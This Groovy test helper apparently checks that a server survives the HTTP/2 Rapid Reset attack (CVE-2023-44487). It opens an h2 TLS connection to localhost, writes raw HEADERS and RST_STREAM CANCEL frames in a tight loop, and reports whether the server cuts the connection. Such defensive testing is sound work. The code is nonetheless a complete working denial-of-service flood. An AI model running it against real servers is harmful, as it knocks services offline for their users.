package io.junction.e2e.tls

import javax.net.ssl.SSLContext
import javax.net.ssl.SSLSocket
import java.nio.ByteBuffer

/**
 * An HTTP/2 client that does what CVE-2023-44487 does: opens streams and resets each at once (HEADERS, then
 * RST_STREAM CANCEL), as fast as it can, on one TLS connection (ALPN h2). Frames are written by hand: the server
 * under test must not be trusted to parse what a real client library would refuse to send.
 */
class RapidResetFlood {

    private static final byte[] PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'.getBytes('US-ASCII')
    private static final int HEADERS = 0x1, RST_STREAM = 0x3, SETTINGS = 0x4, GOAWAY = 0x7
    private static final int END_STREAM_AND_HEADERS = 0x5, CANCEL = 0x8

    /**
     * Sends up to {@code streams} opened-and-reset streams and reads what the server answers.
     * @return whether the server ended the connection (GOAWAY or end of stream) before the client was done
     */
    static boolean floodIsCut(SSLContext context, int port, int streams) {
        SSLSocket socket = (SSLSocket) context.socketFactory.createSocket('127.0.0.1', port)
        socket.withCloseable {
            socket.soTimeout = 10_000
            socket.SSLParameters = socket.SSLParameters.tap { applicationProtocols = ['h2'] as String[] }
            socket.startHandshake()
            assert socket.applicationProtocol == 'h2'
            def goaway = new java.util.concurrent.atomic.AtomicBoolean()
            def reader = Thread.startDaemon('flood-reader') { goaway.set(readsUntilGoaway(socket.inputStream)) }
            def out = new BufferedOutputStream(socket.outputStream, 64 * 1024)
            try {
                out.write(PREFACE)
                out.write(frame(SETTINGS, 0, 0, new byte[0]))
                for (int stream = 1; stream < streams * 2; stream += 2) {
                    out.write(frame(HEADERS, END_STREAM_AND_HEADERS, stream, headerBlock()))
                    out.write(frame(RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array()))
                }
                out.flush()
            } catch (IOException ignored) {
                // the server closed the connection while the flood was being written
            }
            reader.join(10_000)
            return goaway.get()
        }
    }

    /** GET / on https, from HPACK's static table: :method GET, :path /, :scheme https, :authority localhost. */
    private static byte[] headerBlock() {
        def authority = 'localhost'.getBytes('US-ASCII')
        [0x82, 0x84, 0x87, 0x41, authority.length].collect { it as byte } + (authority as List) as byte[]
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >>> 16)).put((byte) (payload.length >>> 8)).put((byte) payload.length)
                .put((byte) type).put((byte) flags).putInt(stream).put(payload).array()
    }

    /** Reads frames until a GOAWAY (true) or the end of the connection (true: cut) or a read timeout (false). */
    private static boolean readsUntilGoaway(InputStream input) {
        def data = new DataInputStream(new BufferedInputStream(input))
        try {
            while (true) {
                int length = (data.readUnsignedByte() << 16) | data.readUnsignedShort()
                int type = data.readUnsignedByte()
                data.skipNBytes(5 + length)
                if (type == GOAWAY) {
                    return true
                }
            }
        } catch (EOFException ignored) {
            return true
        } catch (SocketTimeoutException ignored) {
            return false
        } catch (IOException ignored) {
            return true
        }
    }
}
